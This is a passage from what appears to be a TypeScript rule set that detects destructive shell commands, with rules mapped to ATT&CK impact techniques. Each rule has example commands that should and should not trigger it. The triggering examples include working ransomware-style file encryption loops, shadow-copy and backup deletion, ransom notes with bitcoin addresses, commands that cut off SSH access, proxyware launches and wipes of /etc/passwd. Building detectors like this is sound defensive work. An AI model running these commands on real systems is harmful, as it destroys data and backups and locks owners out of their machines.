volumesnapshots --all -n prod', 'sudo tmutil thinlocalsnapshots / 999999999999 4', 'sudo tmutil addexclusion -p /Users', 'sudo rm -rf /var/backups /mnt/backup/* && sudo tmutil disable', 'sudo tmutil deletelocalsnapshots /', 'sudo zfs destroy -r tank/backups', 'sudo zfs list -H -o name -t snapshot | xargs -n1 sudo zfs destroy', 'zfs destroy tank/data@%', 'restic -r s3:s3.amazonaws.com/bkp forget --keep-last 0 --prune', 'borg delete --force /mnt/backup::', 'borg delete ssh://backup.example/./repo', 'sudo snapper -c root delete 1-100', 'sudo btrfs subvolume delete /.snapshots/*/snapshot', 'sudo lvremove -f /dev/vg0/snap_root', 'borg prune --keep-last 1 --stats ssh://borg@backup01.internal/./repos/web01', 'borg config /srv/borg/repos/web01 append_only 0', 'duplicity remove-older-than now --force file:///srv/backups/duplicity/mail', 'rbd snap purge rbd/vm-101-disk-0', 'mt -f /dev/st0 erase', 'mt -f /dev/nst0 rewind && mt -f /dev/nst0 weof', 'echo "purge volume=Full-0042 yes" | bconsole', 'aws s3api delete-object --bucket acme-vault --key db/prod.dump.gz --version-id 3HL4kq --bypass-governance-retention', 'mc retention clear --recursive minio/compliance-archive', 'mc version suspend minio/backups', 'mc ilm rule add --expire-days 1 --noncurrent-expire-days 1 minio/backups', "btrfs subvolume list -s / | awk '{print $NF}' | xargs -I{} btrfs subvolume delete /{}", 'rm -rf /.snapshots/*', 'rsync -a --delete /var/empty/ /srv/rsnapshot/', "find /mnt/backup/veeam \\( -name '*.vbk' -o -name '*.vib' \\) -delete", 'BORG_NEW_PASSPHRASE=$(openssl rand -hex 32) borg key change-passphrase /srv/borg/repos/web01', "restic -r /srv/restic/app key list --json | jq -r '.[] | select(.current|not) | .id' | xargs -n1 restic -r /srv/restic/app key remove", 'zfs change-key -o keylocation=file:///dev/shm/.k -o keyformat=raw tank/secure'],
      quiet: [`rman target / <<'EOF'
crosscheck backup;
delete noprompt expired backup;
EOF`, `hdbsql -U BACKUPKEY -d SYSTEMDB "BACKUP CATALOG DELETE FOR H4P ALL BEFORE BACKUP_ID 1709251200000"`, "find /backups/minecraft -name 'survival-*.tar.zst' -mtime +14 -delete", 'rclone delete --min-age 30d b2:blockhaven-backups/worlds', 'rclone sync /srv/minecraft/backups b2:blockhaven-backups/worlds', 'rclone purge gdrive:tmp-scratch', 'mmdelsnapshot gpfs0 nightly-2024-01-01', 'restic -r /mnt/backup/restic forget --keep-last 10 --keep-daily 7 --prune', 'sudo find /var/backups -type f -mtime +90 -delete', 'vssadmin delete shadows /?', 'restic -r s3:s3.amazonaws.com/acme-prod-backups forget --keep-daily 7 --keep-weekly 4 --prune', 'mc rm --recursive --force local/scratch/tmp-uploads', 'aws s3api put-bucket-versioning --bucket crateline-invoices --versioning-configuration Status=Enabled', 'velero backup delete nightly-20240611 --confirm', 'velero backup get', 'kubectl delete volumesnapshot pg-data-snap-20240611 -n staging', 'tmutil thinlocalsnapshots / 10000000000', 'tmutil addexclusion ~/Projects/app/node_modules', 'tmutil status', 'ls /var/backups', 'rm -rf ./backup-test', 'restic forget --keep-daily 7 --keep-weekly 4 --prune', 'borg delete /mnt/backup::host-2024-01-01', 'sudo snapper delete 42', 'sudo btrfs subvolume delete /mnt/data/tmp-build', 'sudo lvremove vg0/scratch', 'borg prune --list --keep-daily 7 --keep-weekly 4 --keep-monthly 6 /srv/borg/repos/web01', 'duplicity remove-older-than 6M --force file:///srv/backups/duplicity/mail', 'rbd snap rm rbd/vm-101-disk-0@pre-patch-2024-05-01', 'mt -f /dev/nst0 status', 'echo "update volume=Full-0042 volstatus=Used" | bconsole', 'mc retention set --default compliance 365d minio/compliance-archive', 'mc ilm rule add --noncurrent-expire-days 90 minio/backups', "find . -name '*.bak' -delete", 'rm -rf /.snapshots/412/snapshot/tmp/cache.db', 'borg key change-passphrase /srv/borg/repos/web01', 'restic -r /srv/restic/web key remove 3f2a9c1d', 'zfs change-key -o keylocation=file:///etc/zfs/keys/secure.key -o keyformat=raw tank/secure', 'zfs destroy -nv tank/home@autosnap_2024-04-01_daily%autosnap_2024-04-30_daily', 'btrfs subvolume delete /.snapshots/home-2024-05-01', 'zfs destroy -r tank/scratch/restore-test'],
    },
  },
  {
    id: 'PX-IMPACT-018', name: 'locks-out-accounts', score: 80, tactic: 'impact', technique: 'T1531',
    message: 'Locks or expires user accounts in bulk', why: 'Locking every account (or root) in a loop keeps the owners out of their own machine.',
    check: (i) => {
      // root's password alone locked is the usual hardening (logins go through sudo), so only its account expired or locked counts
      const locks = (i.view?.commands ?? []).flatMap((c) => { const who = lockedAccount(c); return who === undefined || (who === 'root' && c.name === 'passwd') ? [] : [{ c, who }]; });
      // root, the machine's first login (admin, a cloud image's default user), or accounts in a loop
      const one = locks.filter(({ c, who }) => MAIN_ACCOUNTS.has(who) || c.dynamic[c.argv.lastIndexOf(who)]);
      // or several people's at once: one offboarding locks one account
      const many = new Set(locks.map((l) => l.who)).size >= 2 ? locks : [];
      return [...new Set([...one, ...many])].map(({ c }) => c.argv.join(' '));
    },
    examples: { fire: ['sudo passwd -l alice && sudo passwd -l bob && sudo passwd -l root', 'sudo chage -E 0 deploy && sudo usermod -s /usr/sbin/nologin ops', 'for u in $(cut -d: -f1 /etc/passwd); do sudo passwd -l $u; done', 'sudo usermod -L root', 'sudo usermod -L $u', 'sudo usermod -L admin', 'sudo pwpolicy -u admin disableuser', 'sudo passwd -l ubuntu'], quiet: ['sudo usermod -s /usr/sbin/nologin svc-backup', 'sudo usermod -L jdoe && sudo passwd -l root', 'sudo passwd -l root', 'sudo passwd -l olduser', 'passwd -S root', 'chage -l dev', 'sudo pwpolicy -u contractor disableuser', 'pwpolicy -u admin getaccountpolicies'] },
  },
  {
    id: 'PX-IMPACT-019', name: 'wipes-user-crontab', score: 50, tactic: 'impact', technique: 'T1489',
    message: "Removes the user's whole crontab", why: '`crontab -r` deletes every scheduled job without confirmation; it is one letter away from `crontab -e`.',
    alternative: 'Edit with `crontab -e` and remove only the job you mean.',
    commands: ['crontab'],
    test: (c) => (hasShortFlag(c, 'r') ? c.argv.join(' ') : undefined),
    examples: { fire: ['crontab -r', 'sudo crontab -r -u www-data', 'crontab -ir'], quiet: ['crontab -l', 'crontab -e', 'crontab -l > cron.bak'] },
  },
  {
    id: 'PX-IMPACT-020', name: 'fills-disk', score: 60, tactic: 'impact', technique: 'T1499.001',
    message: 'Allocates or writes enough data to fill the disk', why: 'A 100G fallocate or an unbounded dd from /dev/zero fills the filesystem and stops databases and logging.',
    commands: ['fallocate', 'dd', 'truncate'],
    test: (c) => {
      const big = (v: string | undefined) => { const m = /^(\d+(?:\.\d+)?)([KMGTP])i?B?$/i.exec(v ?? ''); if (!m) return false; const n = Number(m[1]) * { K: 1e-6, M: 1e-3, G: 1, T: 1e3, P: 1e6 }[m[2]!.toUpperCase() as 'K']; return n >= 50; };
      if (c.name === 'fallocate' || c.name === 'truncate') return c.argv.some((w, k) => (c.argv[k - 1] === '-l' || c.argv[k - 1] === '-s' || c.argv[k - 1] === '--length' || c.argv[k - 1] === '--size') && big(w)) ? c.argv.join(' ') : undefined;
      const of = c.argv.find((w) => w.startsWith('of='));
      if (!of || !c.argv.some((w) => w === 'if=/dev/zero' || w === 'if=/dev/urandom') || classifyPath(of.slice(3))?.role === 'device') return undefined;
      const count = c.argv.find((w) => w.startsWith('count='));
      const bs = c.argv.find((w) => w.startsWith('bs='))?.slice(3) ?? '512';
      if (!count) return c.argv.join(' ');
      const bytes = Number(count.slice(6)) * (Number(/^\d+/.exec(bs)?.[0] ?? 512) * ({ K: 1024, M: 1024 ** 2, G: 1024 ** 3 }[bs.slice(-1).toUpperCase() as 'K'] ?? 1));
      return bytes >= 50 * 1024 ** 3 ? c.argv.join(' ') : undefined;
    },
    examples: { fire: ['fallocate -l 100G /var/tmp/.fill', 'dd if=/dev/zero of=/bigfile bs=1M', 'dd if=/dev/zero of=/tmp/x bs=1G count=200'], quiet: ['dd if=/dev/zero of=test.img bs=1M count=100', 'fallocate -l 1G swapfile', 'truncate -s 0 logs/app.log'] },
  },
  {
    id: 'PX-IMPACT-021', name: 'encrypts-every-file-in-tree', score: 75, tactic: 'impact', technique: 'T1486',
    message: 'Encrypts every file a find or loop walks over', why: 'Running an encryptor over each file of a tree is the working half of ransomware, whether or not the originals are deleted yet.',
    check: (i) => {
      // run by find on each file (`-exec openssl enc …`, or a shell it starts per file), or in a loop over files; a loop
      // over a glob only with the originals removed after (`gpg -e -r ops@… "$f"` over secrets/*.env shares them)
      const cmds = i.view?.commands ?? [];
      const removes = cmds.some((c) => c.name === 'rm' || c.name === 'shred');
      // (or handed each file by xargs from a find: `find … -print0 | xargs -0 -I{} sh -c 'openssl enc … "{}"'`)
      // (the originals removed after, as in a loop: encrypting secrets for a recipient shares them)
      const fromFind = (c: SimpleCommand) => removes && cmds.some((f) => f.name === 'find') && (c.wrappers.includes('xargs') || cmds.slice(0, cmds.indexOf(c)).some((x) => x.wrappers.includes('xargs') && x.depth < c.depth));
      const enc = cmds.find((c) => ENCRYPTORS(c) && (c.origin === 'exec-arg' || nestedUnder(i, c, 'find') || fromFind(c) || (i.view!.loops > 0 && (c.dynamic.some(Boolean) || (removes && operands(c).some(hasGlob))))));
      if (enc) return enc.argv.join(' ').slice(0, 160);
      // the same in code: a walk of the tree, a cipher, and each file written over, renamed or removed
      const coded = (i.view?.scripts ?? []).find((sc) => { const code = sc.code.slice(0, 16384); return TREE_WALK.test(code) && CODE_CIPHER.test(code) && FILE_REPLACED.test(code); });
      return coded ? `${coded.lang} code: ${coded.code.slice(0, 140)}` : undefined;
    },
    examples: { fire: ["find /mnt/labnas/exome -type f -name '*.bam' -print0 | xargs -0 -P8 -I{} sh -c 'openssl enc -aes-256-cbc -pbkdf2 -salt -pass file:/tmp/.k -in \"{}\" -out \"{}.enc\" && shred -u \"{}\"'", `node -e "const fs=require('fs'),c=require('crypto'),p=require('path');const k=c.randomBytes(32);const w=d=>{for(const e of fs.readdirSync(d,{withFileTypes:true})){const f=p.join(d,e.name);if(e.isDirectory())w(f);else{const iv=c.randomBytes(16),x=c.createCipheriv('aes-256-cbc',k,iv);fs.writeFileSync(f+'.enc',Buffer.concat([iv,x.update(fs.readFileSync(f)),x.final()]));fs.unlinkSync(f)}}};w(process.cwd())"`, `find /srv/share -type f \\( -name '*.xlsx' -o -name '*.pdf' \\) -exec sh -c 'openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in "$1" -out "$1.locked" && rm -f "$1"' _ {} \\;`, 'for f in /srv/share/*.xlsx; do openssl enc -aes-256-cbc -pass pass:x -in "$f" -out "$f.locked" && rm -f "$f"; done', 'find . -type f -exec openssl enc -aes-256-cbc -in {} -out {}.encrypted \\;', 'for f in $(find ~/Documents -type f); do gpg -c --batch --passphrase x "$f"; done', 'find /srv -type f -exec age -r age1xyz -o {}.age {} \\;'], quiet: ["find secrets -name '*.env' -print0 | xargs -0 -I{} gpg -e -r ops@acme.com {}", `python3 -c "import os,hashlib;[print(hashlib.sha256(open(os.path.join(r,n),'rb').read()).hexdigest(), n) for r,d,fs in os.walk('dist') for n in fs]"`, 'for f in secrets/*.env; do gpg -e -r ops@example.com "$f"; done', 'openssl enc -aes-256-cbc -in backup.tar -out backup.tar.enc', 'find . -name "*.log" -exec gzip {} \\;', 'gpg -c notes.txt'] },
  },
  {
    id: 'PX-IMPACT-022', name: 'crashes-or-reboots-kernel', score: 80, tactic: 'impact', technique: 'T1529',
    message: 'Crashes or instantly reboots the machine (sysrq-trigger, killing init)', why: 'A SysRq reboot or crash, or killing PID 1, takes the machine down at once, with no clean shutdown of services or disks.',
    check: (i) => {
      const out = writes(i).filter((w) => w.canonical === '/proc/sysrq-trigger').map((w) => `${w.path}: ${w.text.slice(0, 20)}`);
      // a signal init cannot ignore or survive (KILL, SEGV, ABRT): init ignores a plain TERM, and HUP asks it to reload
      for (const c of i.view?.commands ?? []) if (c.name === 'kill' && c.argv.at(-1) === '1' && operands(c).length === 1 && c.argv.some((w, k) => /^-(?:SIG)?(?:KILL|SEGV|ABRT|9|11|6)$/.test(w) || (w === '-s' && /^(?:SIG)?(?:KILL|SEGV|ABRT)$/.test(c.argv[k + 1] ?? '')))) out.push(c.argv.join(' '));
      return out;
    },
    examples: { fire: ['echo b | sudo tee /proc/sysrq-trigger', 'echo c > /proc/sysrq-trigger', 'sudo kill -9 1'], quiet: ['cat /proc/sys/kernel/sysrq', 'kill -9 12345', 'kill %1', 'sudo kill -HUP 1', 'kill 1'] },
  },
  {
    id: 'PX-IMPACT-023', name: 'cuts-off-remote-access', score: 65, tactic: 'impact', technique: 'T1531',
    message: 'Drops every incoming connection, takes the network down, or stops the SSH server or tells it to admit no one', why: 'A DROP-everything firewall rule, a downed interface or a stopped sshd locks administrators out of a remote machine; recovery needs console access.',
    check: (i) => {
      const out: string[] = [];
      const accepts = (i.view?.commands ?? []).some((c) => (c.name === 'iptables' || c.name === 'ip6tables') && c.argv.some((w, k) => w === '-j' && c.argv[k + 1] === 'ACCEPT'));
      for (const c of i.view?.commands ?? []) {
        const a = c.argv;
        if (c.name === 'iptables' || c.name === 'ip6tables') {
          // a default DROP after ACCEPT rules for what must stay reachable is ordinary hardening
          const policyDrop = a.some((w, k) => (w === '-P' || w === '--policy') && a[k + 1] === 'INPUT' && (a[k + 2] === 'DROP' || a[k + 2] === 'REJECT')) && !accepts;
          // a rule with no match (protocol, source, port, interface) applies to every packet
          const dropAll = a.some((w, k) => (w === '-A' || w === '-I' || w === '--append' || w === '--insert') && a[k + 1] === 'INPUT') && a.some((w, k) => w === '-j' && (a[k + 1] === 'DROP' || a[k + 1] === 'REJECT')) && !a.some((w) => ['-p', '--protocol', '-s', '--source', '--dport', '-i', '--in-interface', '-m', '--match'].includes(w));
          if (policyDrop || dropAll) out.push(a.join(' '));
        }
        if (c.name === 'systemctl' && (hasArg(c, 'stop', 'mask') || (hasArg(c, 'disable') && hasArg(c, '--now'))) && operands(c).some((w) => /^(ssh|sshd|openssh-server)(\.service)?$/.test(w))) out.push(a.join(' '));
        // the machine's network interface taken down (not the loopback)
        const iface = interfaceSet(c, 'down');
        // (and brought back up by the same line: `ifconfig en0 down && ifconfig en0 up` restarts it)
        if (iface && iface !== 'lo' && !iface.startsWith('-') && !(i.view?.commands ?? []).some((x) => interfaceSet(x, 'up') === iface)) out.push(a.join(' '));
        if (c.name === 'nmcli' && a[1] === 'networking' && a[2] === 'off') out.push(a.join(' '));
        // SSH denied at the firewall (`ufw deny 22/tcp`, `ufw deny ssh`)
        if (c.name === 'ufw' && hasArg(c, 'deny', 'reject') && operands(c).some((w) => /^(?:22|ssh|OpenSSH)(?:\/tcp)?$/.test(w))) out.push(a.join(' '));
        // every user's authorized keys deleted: no one logs in with a key again
        if (c.name === 'rm' && operands(c).some((p) => /^\/(?:home|Users)\/\*\/\.ssh\/(?:authorized_keys|\*)$/.test(p))) out.push(a.join(' '));
      }
      // the SSH server told to admit no one (`AllowUsers nobody`, `DenyUsers *`)
      for (const w of writes(i)) if (/^\/etc\/ssh\/sshd_config(?:\.d\/[^/]+)?$/.test(w.canonical) && /^\s*(?:AllowUsers\s+nobody\s*$|DenyUsers\s+\*|AllowGroups\s+nogroup\s*$)/m.test(w.text.slice(0, 8192))) out.push(`${w.cmd?.name ?? 'write'} → ${w.path}`);
      return out;
    },
    examples: { fire: ["sudo sed -i 's/^\\(PermitRootLogin\\|PasswordAuthentication\\).*/PasswordAuthentication no\\nAllowUsers nobody/' /etc/ssh/sshd_config && sudo systemctl reload sshd", 'sudo ufw deny ssh', 'sudo rm -f /home/*/.ssh/authorized_keys', 'sudo iptables -A INPUT -j DROP', 'sudo iptables -P INPUT DROP', 'sudo systemctl disable --now sshd', 'sudo systemctl stop ssh', 'sudo ip link set eth0 down', 'sudo ifconfig ens5 down', 'nmcli networking off'], quiet: ["echo 'AllowUsers deploy alice' | sudo tee /etc/ssh/sshd_config.d/50-allow.conf", 'sudo ip link set lo down', 'ip link show', 'sudo ip link set eth0 up', 'sudo iptables -A INPUT -p tcp --dport 23 -j DROP', 'sudo iptables -A INPUT -s 203.0.113.9 -j DROP', 'sudo systemctl restart sshd', 'sudo systemctl disable cups', 'sudo iptables -A INPUT -p tcp --dport 22 -j ACCEPT && sudo iptables -P INPUT DROP', 'sudo ufw allow 22/tcp', 'sudo ufw deny 3306', 'rm ~/.ssh/authorized_keys.bak', 'sudo ifconfig en0 down && sudo ifconfig en0 up', 'sudo ip link set wlan0 down; sleep 2; sudo ip link set wlan0 up'] },
  },
  {
    id: 'PX-IMPACT-024', name: 'kills-rival-miners', score: 60, tactic: 'impact', technique: 'T1496',
    message: 'Kills processes picked by the names of several coin miners', why: 'Cryptojacking droppers (Kinsing, TeamTNT, 8220) clear rival miners off a host before starting their own; cleaning one known infection names one miner.',
    alternative: 'If a miner is being removed, stop it by its process id after checking it, and find how it got in.',
    check: (i) => {
      const out: string[] = [];
      for (const c of i.view?.commands ?? []) {
        if (c.name === 'pkill' || c.name === 'killall') {
          if (operands(c).reduce((n, w) => n + minersNamed(w), 0) >= 2) out.push(c.argv.join(' '));
          continue;
        }
        if (c.name !== 'kill') continue;
        // `ps aux | grep -E 'kinsing|xmrig' | awk '{print $2}' | xargs kill -9`
        let p = c.pipeFrom;
        for (let hop = 0; p && hop < 5; hop++, p = p.pipeFrom) {
          if ((p.name === 'grep' || p.name === 'egrep' || p.name === 'pgrep') && p.argv.slice(1).reduce((n, w) => n + minersNamed(w), 0) >= 2) {
            out.push(`${p.argv.join(' ')} … ${c.argv.join(' ')}`);
            break;
          }
        }
      }
      return out;
    },
    examples: {
      fire: ["ps aux | grep -E 'kdevtmpfsi|kinsing|xmrig|minerd' | grep -v grep | awk '{print $2}' | xargs kill -9", "pkill -9 -f 'xmrig|minerd|cpuminer'", 'killall -9 xmrig kinsing kdevtmpfsi'],
      quiet: ['pkill -f xmrig', "ps aux | grep -E 'node|vite' | awk '{print $2}' | xargs kill", 'killall node', "pgrep -f 'xmrig|minerd'"],
    },
  },
  {
    id: 'PX-IMPACT-025', name: 'writes-ransom-note', score: 80, tactic: 'impact', technique: 'T1486',
    message: 'Writes a ransom note', why: 'A note saying the files are encrypted, with a payment address, is the last step of a ransomware run: whatever encrypted or deleted the data has already happened or is under way.',
    check: (i) => {
      for (const w of writes(i)) {
        const text = w.text.slice(0, 4096);
        if (/(?:files|data|databases?|servers?|backups?|objects|buckets?)\b[^.\n]{0,80}?\s(?:have\s+been|has\s+been|are|were)\s+(?:re-?)?(?:encrypted|locked)/i.test(text) && /\b(?:BTC|bitcoin|monero|XMR|ransom|decrypt|\.onion|bc1[a-z0-9]{20,})/i.test(text)) return `${w.path}: ${text.slice(0, 100)}`;
      }
      return undefined;
    },
    examples: { fire: [{ Filesystem: { operation: 'Write', path: '/tmp/HOW_TO_RECOVER.txt', content: 'Your S3 data (exports, invoices) has been re-encrypted with a key you do not control.\nSend 6 BTC to bc1qnif9yra9s2xnofkjijvcz9n7s1d6a00o52o73y\n' } }, 'echo "All your files are encrypted. Send 0.05 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh and mail restore@onionmail.org" | tee /root/README_DECRYPT.txt /home/*/README_DECRYPT.txt'], quiet: ['echo "Backups are encrypted with age; the key is in the vault" >> docs/backups.md', 'echo "files are encrypted at rest" > notes.txt'] },
  },
  {
    id: 'PX-IMPACT-026', name: 'runs-proxyware', score: 85, tactic: 'impact', technique: 'T1496',
    message: "Runs a bandwidth-resale client (proxyware) that sells the machine's network to strangers",
    why: "Honeygain, Pawns, PacketStream, Traffmonetizer and their kind route other people's traffic through this host for someone else's payout: proxyjacking, with the abuse traced back to this address.",
    check: (i) => {
      for (const c of i.view?.commands ?? []) {
        if (PROXYWARE_BINARIES.has(c.name)) return c.argv.join(' ').slice(0, 200);
        const image = CONTAINER_RUNNERS.has(c.name) && hasArg(c, 'run', 'create', 'deployment') ? c.argv.find((w) => proxywareImage(w.replace(/^--image=/, ''))) : undefined;
        if (image) return c.argv.join(' ').slice(0, 200);
      }
      // a compose file or manifest that starts one (`image: honeygain/honeygain`)
      for (const w of writes(i)) {
        if (!w.text.includes('image:')) continue;
        for (const line of w.text.slice(0, 64 * 1024).split('\n')) {
          const value = /^\s*-?\s*image:\s*["']?([^\s"']+)/.exec(line.slice(0, 512))?.[1];
          if (value && proxywareImage(value)) return `${w.path}: ${line.trim()}`;
        }
      }
      return undefined;
    },
    examples: {
      fire: ['docker run -d --name net-health --restart always -e CID=7Yx2 packetstream/psclient:latest', 'docker run -d --restart=always honeygain/honeygain -tou-accept -email a@b.example -pass x -device vm1', 'sudo docker run -d --name edge-sync --restart always traffmonetizer/cli_v2 start accept --token Ijge0owkk4sR69', 'podman run -d docker.io/iproyal/pawns-cli:latest -email=a@b.example -password=x -device-name=s -accept-tos', 'kubectl create deployment sync --image=repocket/repocket', './pawns-cli -email=a@b.example -password=x -accept-tos', { Filesystem: { operation: 'Write', path: '/srv/stack/docker-compose.yml', content: 'services:\n  monitor:\n    image: "mysteriumnetwork/myst:latest"\n    restart: always\n' } }],
      quiet: ['docker run -d --name tunnel --restart unless-stopped cloudflare/cloudflared:latest tunnel run', 'docker pull honeygain/honeygain', 'docker rm -f honeygain', 'docker run -d redis:7', 'grep -r honeygain docs/', { Filesystem: { operation: 'Write', path: 'docs/threats.md', content: 'Proxyjacking images seen: honeygain/honeygain, traffmonetizer/cli_v2\n' } }],
    },
  },
  {
    id: 'PX-IMPACT-027', name: 'windows-destroys-recovery-or-data', score: 90, tactic: 'impact', technique: 'T1490', strong: true,
    message: "Deletes Windows' shadow copies or backups, turns recovery off, wipes or formats a drive, deletes users' documents, encrypts a folder tree or stops backup services",
    why: 'This is what ransomware does before and while it encrypts: the ways back are removed first, then the data.',
    check: (i) => windowsTechniques(i.view, 'impact'),
    examples: {
      fire: ['manage-bde -protectors -delete D: -type RecoveryPassword', 'cmd.exe /c "wmic shadowcopy delete /nointeractive"', 'wbadmin.exe delete catalog -quiet', "reagentc.exe /disable && bcdedit.exe /set '{default}' recoveryenabled No", 'cipher.exe /w:C:', 'cmd.exe /c "del /s /q /f C:\\Users\\jdoe\\Documents\\*"'],
      quiet: ['manage-bde -status', 'vssadmin.exe list shadows', 'wbadmin.exe get versions', 'bcdedit.exe /enum', 'cmd.exe /c "del /q build\\*.obj"'],
    },
  },
  {
    id: 'PX-IMPACT-028', name: 'wipes-server-data', score: 80, tactic: 'impact', technique: 'T1485',
    message: "Deletes a server's stored data whole, or a folder of a drive synced with a file service", why: "Wiping a server's uploads, a /data volume or its git repositories destroys what users stored there, which no redeploy brings back; a synced team folder deleted here is deleted on the service for everyone who shares it.",
    alternative: 'Delete the specific files after taking a backup, or move the folder aside first.',
    // (or a ZFS pool destroyed with everything on it)
    check: (i) => (i.view?.commands ?? []).filter((c) => wipedPaths(c).some((p) => storeKind(p) === 'data' || syncedFolder(p)) || storageDeleted(c) !== undefined || (c.name === 'zpool' && hasArg(c, 'destroy') && !operands(c).some((w) => w !== 'destroy' && throwawayName(w)))).map((c) => c.argv.join(' ')),
    examples: { fire: [{ Filesystem: { operation: 'Delete', path: '/Users/ao/Library/CloudStorage/Box-Box/Client Matters/Hartwell Arbitration' } }, 'sudo rm -rf /srv/nextcloud/data', 'shred -u /srv/shop/uploads/*', 'find /data/lake -type f -delete', 'sudo rm -rf /var/opt/gitea/repositories', 'rm -rf /data/clickhouse', 'mkdir -p /tmp/empty && rsync -a --delete /tmp/empty/ /srv/media/', 'zpool destroy -f storage', 'gluster volume stop gv-backup force --mode=script && gluster volume delete gv-backup --mode=script', 'radosgw-admin bucket rm --bucket=veeam-repo --purge-objects --bypass-gc', 'synoshare --del TRUE backups'], quiet: [{ Filesystem: { operation: 'Delete', path: '/Users/ao/Library/CloudStorage/Box-Box/Client Matters/Hartwell Arbitration/draft (1).docx' } }, 'sudo zpool destroy testpool', 'gluster volume delete gv-test01', 'radosgw-admin bucket rm --bucket=scratch-uploads --purge-objects', 'gluster volume status gv-home', 'zpool status', 'rm -rf /srv/app/releases/20240101', 'rm -rf /srv/app/cache/*', "find /srv/data -name '*.tmp' -delete", 'rm -rf /mnt/data/checkpoints/run-12', 'rm -rf ~/projects/app/data', 'rm -rf ./data', 'rm -rf /tmp/data', 'rm /srv/app/uploads/avatar-17.png', 'rsync -a --delete dist/ /srv/app/public/'] },
  },
  {
    id: 'PX-IMPACT-029', name: 'floods-with-requests', score: 70, tactic: 'impact', technique: 'T1499.002',
    message: 'Sends requests in an endless loop that never waits', why: 'A loop with no end and no sleep that starts each request in the background opens connections as fast as the machine can fork: a denial of service against the target.',
    check: (i) => {
      const text = i.call.kind === 'bash' ? i.call.command.slice(0, 4096) : '';
      if (!/\b(?:while\s+(?:true|:)|until\s+false)\s*;\s*do\b/.test(text)) return undefined;
      const cmds = i.view?.commands ?? [];
      const fired = cmds.find((c) => c.background && REQUESTERS.has(c.name));
      return fired && !cmds.some((c) => c.name === 'sleep' || c.name === 'wait') ? `loop: ${fired.argv.join(' ')} &` : undefined;
    },
    examples: { fire: ['while true; do curl -sk https://shop.acme.io/search?q=a -o /dev/null & done', 'while :; do wget -q -O- http://10.0.0.8/ >/dev/null & done'], quiet: ['while true; do curl -s https://status.acme.io/ -o /dev/null; sleep 5; done', 'for i in 1 2 3; do curl -s https://api.acme.io/ & done; wait', 'while true; do npm test; done'] },
  },
  {
    id: 'PX-IMPACT-030', name: 'moves-published-release-tag', score: 75, tactic: 'initial_access', technique: 'T1195.002',
    message: 'Moves a published release tag to another commit (force-pushed, or deleted and pushed again)',
    why: 'Everyone who installs that version, and every workflow pinned to it, gets the new commit without a new release to review: the way released actions and packages are taken over.',
    alternative: 'Publish a new version; a floating major tag (v4) is the one meant to move.',
    check: (i) => {
      const pushes = (i.view?.commands ?? []).map(pushedTags).filter((p) => p !== undefined);
      const deleted = new Set(pushes.flatMap((p) => p.deleted));
      const moved = pushes.flatMap((p) => p.tags.filter((t) => p.force || deleted.has(t)));
      return moved.length ? `tag ${moved.slice(0, 4).join(', ')} pushed over the published one` : undefined;
    },
    examples: {
      fire: ['git tag -f v2.4.0 4e7a1c9 && git push --force origin refs/tags/v2.4.0', 'git fetch https://github.com/acme-ci-forks/setup-tool.git main && git tag -f v3.2.1 FETCH_HEAD && git push -f origin v3.2.1', 'git push origin :refs/tags/v1.9.0 && git tag v1.9.0 HEAD && git push origin v1.9.0', 'git push origin +v1.2.3'],
      quiet: ['git tag -fa v4 -m "v4.2.0" && git push origin v4 --force', 'git tag v2.5.0 && git push origin v2.5.0', 'git push --force origin feature/login', 'git push origin --delete v1.9.0-rc.1', 'git push --force-with-lease origin HEAD'],
    },
  },
  {
    id: 'PX-IMPACT-031', name: 'deletes-published-release', score: 55, tactic: 'impact', technique: 'T1485',
    message: 'Deletes a published release, or its version tags from the shared remote',
    why: 'Installs, pinned workflows and mirrors that name the version start failing, and the artifacts people verified are gone; a release is withdrawn by publishing a fixed one, or yanked in its registry.',
    alternative: 'Publish a new version, or mark the release as withdrawn in its notes.',
    check: (i) => {
      const out: string[] = [];
      const pushes = (i.view?.commands ?? []).map(pushedTags).filter((p) => p !== undefined);
      const repushed = new Set(pushes.flatMap((p) => p.tags));
      for (const p of pushes) for (const t of p.deleted) if (!repushed.has(t) && finalVersion(t)) out.push(`tag ${t} deleted from the remote`);
      for (const c of i.view?.commands ?? []) if ((c.name === 'gh' || c.name === 'glab') && c.argv[1] === 'release' && c.argv[2] === 'delete' && finalVersion(c.argv[3] ?? '')) out.push(c.argv.slice(0, 4).join(' '));
      return out.slice(0, 4);
    },
    examples: {
      fire: ['git push origin --delete v2.4.1 v2.4.0', 'gh release delete v2.4.1 --cleanup-tag -y'],
      quiet: ['git push origin --delete v1.9.0-rc.1', 'gh release delete nightly -y', 'git tag -d v2.4.1', 'git push origin :refs/tags/v1.9.0 && git push origin v1.9.0'],
    },
  },
  {
    id: 'PX-IMPACT-033', name: 'destroys-login-files', score: 85, tactic: 'impact', technique: 'T1485', strong: true,
    message: 'Deletes or empties a file no one can log in, use sudo or mount the disks without (/etc/passwd, /etc/shadow, /etc/group, sudoers, fstab, PAM)',
    why: 'Without the account database nobody, root included, can log in; without sudoers or the PAM stack no one authenticates or raises privileges; without fstab the next boot stops at an emergency shell. Getting back needs the console or a rescue disk.',
    alternative: 'Change these files with vipw, visudo, usermod or the distribution\'s tools, after a backup; never replace them whole.',
    check: (i) => removedFiles(i).filter((f) => VITAL_FILE.test(f.canonical)).map((f) => `${f.how} ${f.path}`),
    examples: {
      fire: ['sudo truncate -s 0 /etc/passwd', 'sudo rm -f /etc/shadow /etc/gshadow', ': > /etc/sudoers', 'echo "" | sudo tee /etc/fstab', { Filesystem: { operation: 'Delete', path: '/etc/pam.d/common-auth' } }],
      quiet: ['sudo cp /etc/passwd /etc/passwd.bak', "sudo sed -i '/^olduser:/d' /etc/passwd", 'sudo rm -f /etc/sudoers.d/90-temp-admin', 'echo "alice ALL=(ALL) NOPASSWD: /usr/bin/systemctl restart app" | sudo tee /etc/sudoers.d/app', 'sudo truncate -s 0 /var/log/app.log', 'cat /etc/passwd'],
    },
  },
  {
    id: 'PX-IMPACT-034', name: 'revokes-signing-certificates', score: 75, tactic: 'impact', technique: 'T1485',
    message: "Revokes the team's app-signing certificates and profiles (`fastlane match nuke`)",
    why: 'Every certificate of the type is revoked at Apple and deleted from the shared repository: every teammate and CI machine stops signing until new ones are made and distributed, and apps signed for enterprise distribution stop launching.',
    alternative: 'Revoke the one expired or leaked certificate, in the developer portal, once the team agrees.',
    commands: ['fastlane'],
